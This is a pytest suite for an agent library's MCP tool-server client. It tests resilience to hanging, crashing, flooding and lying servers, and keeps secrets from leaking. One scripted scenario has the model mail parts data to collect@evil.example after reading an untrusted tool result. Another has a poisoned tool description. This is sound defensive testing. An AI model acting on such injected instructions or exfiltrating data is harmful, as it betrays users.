"""Servers of tools, over real pipes and real sockets: what they give, and what they can't cost a run."""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from loopwright import Agent, Grounded, UsageError, tool
from loopwright._approval import Edit
from loopwright.guard import Guard
from loopwright.testing import ScriptedModel, call, text

pytest.importorskip("mcp")
from loopwright import mcp

PEER = str(Path(__file__).with_name("mcp_peer.py"))
ERAS = ["2025-11-25", "2026-07-28"]


def piped(kind, **options):
    return mcp.stdio(sys.executable, PEER, kind, **{"name": kind, **options})


def free_port():
    """A port that nobody has, below those that are given to whoever asks for any."""
    while True:
        port = 20_000 + secrets.randbelow(12_000)
        with contextlib.suppress(OSError), socket.socket() as probe:
            probe.bind(("127.0.0.1", port))
            return port


@contextlib.contextmanager
def listening(kind):
    """A server of that kind over HTTP; its address and its process."""
    port = free_port()
    process = subprocess.Popen([sys.executable, PEER, kind, str(port)], stderr=subprocess.DEVNULL)
    try:
        ends = time.monotonic() + 20
        while time.monotonic() < ends:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
                break
            time.sleep(0.05)
        yield f"http://127.0.0.1:{port}/mcp", process
    finally:
        process.kill()
        process.wait()


@contextlib.contextmanager
def reached(way, kind, **options):
    """A server of that kind, by pipes or by HTTP."""
    with contextlib.ExitStack() as stack:
        if way == "stdio":
            server = piped(kind, **options)
        else:
            url, _ = stack.enter_context(listening(kind))
            server = mcp.http(url, name=kind, **options)
        try:
            yield server
        finally:
            server.close()


def seen(result):
    return " ".join(message.to_json() for message in result.messages)


def offered(model):
    return {each["function"]["name"]: each["function"] for each in model.requests[0].tools}


def configured(agent, name):
    """The last plan's configuration of a tool."""
    import json

    plan = list(agent._plans.values())[-1]
    return next(each for each in json.loads(plan.config.to_json())["turn"]["tools"] if each["name"] == name)


@pytest.mark.parametrize("era", [None, *ERAS])
@pytest.mark.parametrize("way", ["stdio", "http"])
def test_tools_are_listed_and_called_in_both_eras(way, era):
    model = ScriptedModel(
        [
            call("weigh", part="nut"),
            call("pair", first=1, second=2),
            call("picture"),
            call("fail", why="too hot"),
            text("ok"),
        ]
    )
    with reached(way, "ordinary", era=era) as server:
        result = Agent(model, tools=[server]).run_sync("Weigh the nut.")
    assert result.final == "ok"
    assert list(offered(model)) == ["environment", "fail", "pair", "picture", "slow", "weigh"]
    assert offered(model)["weigh"]["description"] == "Weighs a part."
    said = seen(result)
    assert '"nut: 3 kg"' in said
    assert '{\\"first\\":1,\\"second\\":2,\\"sum\\":3}' in said
    assert '"media_type":"image/png"' in said  # by its bytes, whatever the server says
    assert "a picture of the type image/png that can't be shown" in said
    assert "tool_failed" in said
    assert "too hot" in said


@pytest.mark.parametrize("way", ["stdio", "http"])
def test_one_connection_serves_runs_of_all_kinds_and_one_listing_is_enough(way):
    model = ScriptedModel([call("weigh", part="nut"), text("ok")] * 4)
    with reached(way, "ordinary") as server:
        agent = Agent(model, tools=[server])
        listed = []
        wrapped = server._list

        async def counted(connection):
            listed.append(connection)
            await wrapped(connection)

        server._list = counted

        async def go():
            assert (await agent.run("Weigh the nut.")).final == "ok"
            assert agent.run_sync("Weigh the nut.").final == "ok"
            async for _ in agent.stream("Weigh the nut."):
                pass

        asyncio.run(go())
        assert agent.run_sync("Weigh the nut.").final == "ok"
        assert len(listed) == 1
        assert len(agent._plans) == 3  # before any run; plain; streamed


def test_progress_is_told():
    told = []
    with reached("stdio", "ordinary") as server:
        agent = Agent(ScriptedModel([call("slow"), text("ok")]), tools=[server])
        agent.run_sync("Go.", on_event=lambda event: told.append(event))
    assert [each.text for each in told if type(each).__name__ == "ToolProgress"] == ["1 of 2: step 1", "2 of 2: step 2"]


def test_a_program_sees_no_keys(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-something")
    model = ScriptedModel([call("environment"), text("ok")])
    with reached("stdio", "ordinary", env={"COLOUR": "red"}) as server:
        said = seen(Agent(model, tools=[server]).run_sync("Look."))
    assert "COLOUR" in said
    assert "PATH" in said
    assert "OPENAI_API_KEY" not in said


def test_prompts_and_resources():
    async def go(server):
        assert await server.prompts() == ["review"]
        (message,) = await server.prompt("review", what="the plan")
        assert message.role == "user"
        assert "Review the plan carefully." in message.to_json()
        assert await server.resources() == ["docs://handbook"]
        return await server.read("docs://handbook")

    with reached("stdio", "ordinary") as server:
        assert "Mrs Vogel" in asyncio.run(go(server))
        answer = Grounded("offline:extractive", sources=[server.source()]).run_sync("Who may sign contracts?")
        assert "Vogel" in answer.final


# ---- what servers do to us ----


@pytest.mark.parametrize("way", ["stdio", "http"])
def test_a_server_that_hangs_costs_one_result(way):
    model = ScriptedModel([call("hang"), call("weigh", part="nut"), text("ok")])
    with reached(way, "hostile", timeout=0.5) as server:
        started = time.monotonic()
        result = Agent(model, tools=[server]).run_sync("Go.")
        assert time.monotonic() - started < 15
    assert result.final == "ok"
    assert '\\"timeout\\"' in seen(result)
    assert "nut: 3 kg" in seen(result)


@pytest.mark.parametrize("way", ["stdio", "http"])
def test_a_server_that_dies_in_a_call_costs_one_result(way):
    model = ScriptedModel([call("die"), call("weigh", part="nut"), text("ok")])
    with reached(way, "hostile", timeout=10) as server:
        result = Agent(model, tools=[server]).run_sync("Go.")
    assert result.final == "ok"
    said = seen(result)
    assert '\\"closed\\"' in said
    if way == "stdio":
        assert "out of cheese" in said
        assert "nut: 3 kg" in said  # it was started anew
    else:
        assert '\\"refused\\"' in said


@pytest.mark.parametrize("way", ["stdio", "http"])
def test_a_flood_is_cut_and_one_without_end_is_a_typed_result(way):
    model = ScriptedModel([call("flood", size=300_000), call("flood", size=3_000_000), call("weigh", part="nut"), "ok"])
    with reached(way, "hostile", max_message=1_000_000, timeout=20) as server:
        result = Agent(model, tools=[server]).run_sync("Go.")
    said = seen(result)
    assert result.final == "ok"
    assert "characters left out" in said
    assert len(said) < 60_000
    assert '\\"too_large\\"' in said
    assert "nut: 3 kg" in said


def test_malformed_frames_are_passed_over():
    model = ScriptedModel([call("babble"), call("weigh", part="nut"), "ok"])
    with reached("stdio", "hostile") as server:
        result = Agent(model, tools=[server]).run_sync("Go.")
    assert result.final == "ok"
    assert "and goes on" in seen(result)
    assert "nut: 3 kg" in seen(result)


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: mcp.http(f"http://127.0.0.1:{free_port()}/mcp", name="far"), "refused"),
        (lambda: mcp.stdio("no-such-program-anywhere", name="far"), "unreachable"),
        (lambda: mcp.stdio(sys.executable, "-c", "print('hello')", name="far"), "closed"),
        (
            lambda: mcp.stdio(sys.executable, "-c", "import time; time.sleep(99)", name="far", connect_timeout=1),
            "timeout",
        ),
    ],
)
def test_who_is_not_there_costs_a_run_its_tools_and_the_model_is_told(make, code):
    @tool
    def here() -> str:
        """Here."""
        return "here"

    model = ScriptedModel([call("far"), call("here"), text("ok")])
    server = make()
    result = Agent(model, tools=[server, here]).run_sync("Go.")
    assert result.final == "ok"
    assert sorted(offered(model)) == ["far", "here"]
    assert "unreachable" in seen(result)
    with pytest.raises(mcp.McpError) as caught:
        asyncio.run(server.tools())
    assert caught.value.code == code
    assert caught.value.hint


def test_a_required_server_that_is_not_there_fails_before_the_run():
    server = mcp.http(f"http://127.0.0.1:{free_port()}/mcp", name="far", required=True)
    model = ScriptedModel([text("never")])
    with pytest.raises(mcp.McpError, match="far"):
        Agent(model, tools=[server]).run_sync("Go.")
    assert not model.requests


def test_descriptions_are_text_of_others_and_hints_only_make_tools_stricter():
    model = ScriptedModel([text("ok")] * 2)
    with reached("stdio", "lying") as server:
        agent = Agent(model, tools=[server])
        agent.run_sync("Go.")
        told = offered(model)["delete_everything"]["description"]
        assert told.startswith("Weighs.")
        assert all(each.isprintable() for each in told)
        assert "pay first" not in told
        liar = configured(agent, "delete_everything")
        assert (liar["risk"], liar["read_only"]) == ("cautious", False)
        assert liar["flow"] == {"trust": "untrusted", "effects": ["deletes"]}
        admits = configured(agent, "get_part")
        assert admits["risk"] == "confirm"
        assert "deletes" in admits["flow"]["effects"]
        assert configured(agent, "read_note")["flow"]["effects"] == ["writes", "sends"]
        assert configured(agent, "list_parts")["flow"] == {"trust": "untrusted", "effects": ["reads"]}
    # What its user says holds, but where the server itself admits more.
    with reached("stdio", "lying", read_only=["list_*", "get_*"], risk="confirm") as server:
        agent = Agent(model, tools=[server])
        agent.run_sync("Go.")
        assert configured(agent, "list_parts")["read_only"]
        assert not configured(agent, "get_part")["read_only"]
        assert configured(agent, "delete_everything")["risk"] == "confirm"


def test_what_a_server_says_is_not_what_the_user_said():
    @tool(effects=["sends"])
    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        raise AssertionError

    asked = []
    model = ScriptedModel([call("list_parts"), call("send_mail", to="collect@evil.example", body="bolts"), "ok"])
    with reached("stdio", "lying") as server:
        guard = Guard(approve=lambda approval: asked.append(approval.why) or False)
        Agent(model, tools=[server, send_mail], guard=guard).run_sync("List the parts, and mail Ann.")
    assert any("list_parts" in why for why in asked)


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("way", ["stdio", "http"])
def test_a_tool_that_changes_in_the_middle_of_a_run_is_not_called_and_is_asked_about_in_the_next(way, era):
    asked = []
    model = ScriptedModel(
        [
            call("weigh", part="nut"),
            lambda _: time.sleep(0.5) or call("weigh", part="bolt"),
            text("ok"),
            call("weigh", part="ring"),
            text("ok"),
        ]
    )
    with reached(way, "changing", era=era) as server:
        guard = Guard(approve=lambda approval: asked.append(approval.name) or False)
        agent = Agent(model, tools=[server], guard=guard)
        first = agent.run_sync("Weigh nut and bolt.")
        assert "nut: 3 kg" in seen(first)
        assert '\\"tool_changed\\"' in seen(first)
        assert not asked
        second = agent.run_sync("Weigh the ring.")
    assert second.final == "ok"
    assert asked == ["weigh"]
    assert "was sent" not in seen(second)


@pytest.mark.parametrize("era", ERAS)
def test_a_tool_that_is_taken_away_gives_a_typed_result(era):
    model = ScriptedModel([call("vanish"), lambda _: time.sleep(0.5) or call("vanish"), text("ok")])
    with reached("stdio", "changing", era=era) as server:
        result = Agent(model, tools=[server]).run_sync("Go.")
    assert result.final == "ok"
    assert '\\"tool_gone\\"' in seen(result)


def test_two_servers_with_one_name_do_not_take_each_others_place():
    model = ScriptedModel([call("ordinary_weigh", part="nut"), call("hostile_weigh", part="nut"), text("ok")])
    with reached("stdio", "ordinary") as one, reached("http", "hostile") as other:
        result = Agent(model, tools=[one, other]).run_sync("Weigh the nut twice.")
    assert "weigh" not in offered(model)
    assert seen(result).count("nut: 3 kg") == 2


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (Edit({"size": 7}), "accept: Size(size=7, colour='red')"),
        (Edit({"size": 7, "colour": "blue", "more": 1}), "accept: Size(size=7, colour='blue')"),
        (True, "cancel"),
        (False, "decline"),
        ("too dear", "decline"),
        (None, "decline"),
    ],
)
@pytest.mark.parametrize(("way", "era"), [("stdio", ERAS[0]), ("http", ERAS[0]), ("stdio", ERAS[1]), ("http", ERAS[1])])
def test_a_server_that_asks_is_answered_by_whoever_approves(way, era, answer, said):
    asked = []

    def approve(approval):
        asked.append(approval)
        return answer if approval.name == "asking asks" else True

    model = ScriptedModel([call("order", part="nut"), text("ok")])
    with reached(way, "asking", era=era) as server:
        agent = Agent(model, tools=[server], guard=None if answer is None else approve)
        result = agent.run_sync("Order a nut.")
    assert result.final == "ok"
    assert said in seen(result)
    if answer is not None:
        question = next(each for each in asked if each.name == "asking asks")
        assert question.arguments == {"size": None, "colour": "red"}
        assert "How large shall the nut be?" in question.why


def test_a_run_goes_on_from_its_journal_without_the_servers_list(tmp_path):
    path, cut = tmp_path / "run.jsonl", tmp_path / "cut.jsonl"
    with reached("stdio", "ordinary") as server:
        Agent(ScriptedModel([text("ok")]), tools=[server]).run_sync("Weigh the nut.", journal=path)
    cut.write_text("\n".join(path.read_text().splitlines()[:2]) + "\n")
    nowhere = mcp.stdio("no-such-program-anywhere", name="ordinary")
    result = Agent(ScriptedModel([text("went on")]), tools=[nowhere]).resume_sync(cut)
    assert result.final == "went on"
    again = tmp_path / "again.jsonl"
    again.write_text("\n".join(path.read_text().splitlines()[:2]) + "\n")
    with reached("stdio", "ordinary") as server:
        model = ScriptedModel([call("weigh", part="nut"), text("ok")])
        assert "nut: 3 kg" in seen(Agent(model, tools=[server]).resume_sync(again))


@pytest.mark.parametrize("era", ERAS)
def test_a_question_goes_to_the_person_whose_call_it_is_a_part_of_or_to_nobody(era):
    def agent(who, server):
        async def approve(question):
            await asyncio.sleep(0.3)
            return Edit({"size": len(who), "colour": who}) if question.name == "asking asks" else True

        return Agent(ScriptedModel([call("order", part=who), text("ok")]), tools=[server], guard=approve)

    async def go(server):
        return await asyncio.gather(*(agent(who, server).run("Order.") for who in people))

    people = ("alice", "bob", "carol")
    with reached("stdio", "asking", era=era) as server:
        results = asyncio.run(go(server))
    for who, result in zip(people, results, strict=True):
        said = seen(result)
        assert not any(other in said for other in people if other != who), said
        assert f"colour='{who}'" in said if era == "2026-07-28" else f"colour='{who}'" in said or "decline" in said


def test_runs_that_begin_at_once_list_the_tools_once():
    async def go(server):
        agents = [Agent(ScriptedModel([call("weigh", part="nut"), text("ok")]), tools=[server]) for _ in range(20)]
        results = await asyncio.gather(*(agent.run("Weigh.") for agent in agents))
        await server.aclose()
        return results

    server = piped("ordinary")
    listed = []
    listing = server._list

    async def counted(connection):
        listed.append(connection)
        await listing(connection)

    server._list = counted
    assert all("nut: 3 kg" in seen(result) for result in asyncio.run(go(server)))
    assert len(listed) == 1


@pytest.mark.skipif(not hasattr(os, "fork"), reason="this system does not fork")
def test_a_forked_process_opens_a_connection_of_its_own(tmp_path):
    code = f"""
import os, sys
from loopwright import Agent, mcp
from loopwright.testing import ScriptedModel, call, text

server = mcp.stdio(sys.executable, {PEER!r}, "ordinary", name="ordinary", timeout=10)

def run():
    result = Agent(ScriptedModel([call("weigh", part="nut"), text("ok")]), tools=[server]).run_sync("Weigh.")
    assert "nut: 3 kg" in " ".join(message.to_json() for message in result.messages)

run()
child = os.fork()
if child == 0:
    run()
    server.close()
    os._exit(0)
assert os.waitpid(child, 0)[1] == 0
run()
"""
    done = subprocess.run([sys.executable, "-c", code], timeout=60, check=False, cwd=tmp_path, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()


def test_what_a_program_was_given_as_keys_is_told_to_nobody():
    code = "import os, sys; sys.exit('no: ' + os.environ['PART_TOKEN'] + ' and sk-proj-' + 'Ab3dEf6hIj9kLm2n' * 3)"
    server = mcp.stdio(sys.executable, "-c", code, name="far", env={"PART_TOKEN": "hazel-and-hedgehog"})
    with pytest.raises(mcp.McpError) as caught:
        asyncio.run(server.tools())
    assert "no: " in str(caught.value)
    assert "hazel" not in str(caught.value)
    assert "Ab3dEf6h" not in str(caught.value)


# ---- what is said before anything runs ----


@pytest.mark.parametrize(
    ("make", "option"),
    [
        (lambda: mcp.http("example.com"), "url"),
        (lambda: mcp.http("file:///etc"), "url"),
        (lambda: mcp.http("http://a/mcp", era="2024-01-01"), "era"),
        (lambda: mcp.http("http://a/mcp", risk="none"), "risk"),
        (lambda: mcp.http("http://a/mcp", timeout=0), "timeout"),
        (lambda: mcp.http("http://a/mcp", name="a b"), "name"),
        (lambda: mcp.http("http://a/mcp", headers="x"), "headers"),
        (lambda: mcp.stdio(""), "command"),
        (lambda: mcp.stdio("a", "b\0"), "command"),
        (lambda: mcp.stdio("a", env={"A": 1}), "env"),
        (lambda: mcp.stdio("a", only=[1]), "only"),
    ],
)
def test_options_that_can_not_be_are_named(make, option):
    with pytest.raises(UsageError, match=option):
        make()


def test_names_come_from_where_a_server_is():
    assert mcp.stdio("uvx", "some-server").name == "some-server"
    assert mcp.stdio(sys.executable, "-u", "x/peer.py").name == "peer"
    assert mcp.http("https://user:key@mcp.example.com:8000/mcp").name == "mcp_example_com"
    assert "key" not in repr(mcp.http("https://user:key@mcp.example.com:8000/mcp?token=key"))


def test_importing_loopwright_imports_no_mcp():
    code = "import sys, loopwright; from loopwright import Agent, mcp; assert 'mcp' not in sys.modules, 'imported'"
    subprocess.run([sys.executable, "-c", code], check=True, env=os.environ)


@pytest.mark.parametrize(
    ("version", "code"), [(None, "missing_extra"), ("1.9.4", "wrong_version"), ("3.0", "wrong_version")]
)
def test_without_the_extra_the_error_says_what_to_install(monkeypatch, version, code):
    from importlib import metadata

    from loopwright import _extras

    def found(_):
        if version is None:
            raise metadata.PackageNotFoundError("mcp")
        return version

    _extras.need.cache_clear()
    monkeypatch.setattr(metadata, "version", found)
    with pytest.raises(UsageError) as caught:
        mcp.http("http://127.0.0.1:1/mcp")
    assert caught.value.code == code
    assert "pip install 'loopwright[mcp]'" in caught.value.hint
    monkeypatch.undo()
    _extras.need.cache_clear()
